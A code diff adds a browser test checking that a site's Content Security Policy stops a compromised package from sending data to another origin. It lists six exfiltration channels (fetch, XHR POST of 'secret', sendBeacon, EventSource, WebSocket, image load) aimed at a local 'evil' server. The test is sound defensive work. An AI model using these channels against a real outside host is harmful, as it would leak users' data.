@@ -101,6 +101,66 @@ test.describe('hostile addresses and windows', { tag: '@core' }, () => {
     }
   });
 
+  test('O13 a package that turned bad reaches no other site, by any way out of the page', async ({
+    page,
+    noise,
+  }) => {
+    noise.allowed.push(/Content Security Policy|violates|csp$|ERR_BLOCKED_BY_CSP|Failed to fetch|WebSocket/i);
+    const met: string[] = [];
+    const evil = createServer((request, response) => {
+      met.push(request.url ?? '');
+      response.writeHead(200, {
+        'access-control-allow-origin': '*',
+        'cross-origin-resource-policy': 'cross-origin',
+      });
+      response.end('thank you');
+    });
+    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
+    const origin = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
+    try {
+      await open(page, '/');
+      const stopped = await page.evaluate(async (to) => {
+        const directives = new Set<string>();
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+          directives.add(`${effectiveDirective} ${new URL(blockedURI).pathname.slice(1)}`),
+        );
+        const ways: Record<string, () => unknown> = {
+          fetch: () => fetch(`${to}/fetch`),
+          request: () => {
+            const request = new XMLHttpRequest();
+            request.open('POST', `${to}/request`);
+            request.send('secret');
+          },
+          beacon: () => navigator.sendBeacon(`${to}/beacon`, 'secret'),
+          events: () => new EventSource(`${to}/events`),
+          socket: () => new WebSocket(`${to.replace('http', 'ws')}/socket`),
+          picture: () => (new Image().src = `${to}/picture`),
+        };
+        for (const way of Object.values(ways))
+          await Promise.resolve()
+            .then(way)
+            .catch(() => undefined);
+        await new Promise<void>((resolve) => {
+          const look = () => (directives.size >= 6 ? resolve() : void setTimeout(look, 20));
+          look();
+        });
+        return [...directives].sort();
+      }, origin);
+      expect(stopped).toEqual([
+        ...['beacon', 'events', 'fetch', 'request', 'socket'].map((way) => `connect-src ${way}`),
+        'img-src picture',
+      ]);
+      expect(met).toEqual([]);
+      // The other site is there: whoever is no page of ours reaches it.
+      expect(await (await page.request.get(`${origin}/control`)).text()).toBe('thank you');
+      expect(met).toEqual(['/control']);
+      seen('six of six ways stopped by the policy; nothing arrived');
+    } finally {
+      evil.closeAllConnections();
+      evil.close();
+    }
+  });
+
   test('W20 no file of the site becomes a service worker', async ({ page, noise }) => {
     noise.allowed.push(/service worker|Content Security Policy|csp$/i);
     await open(page, '/');
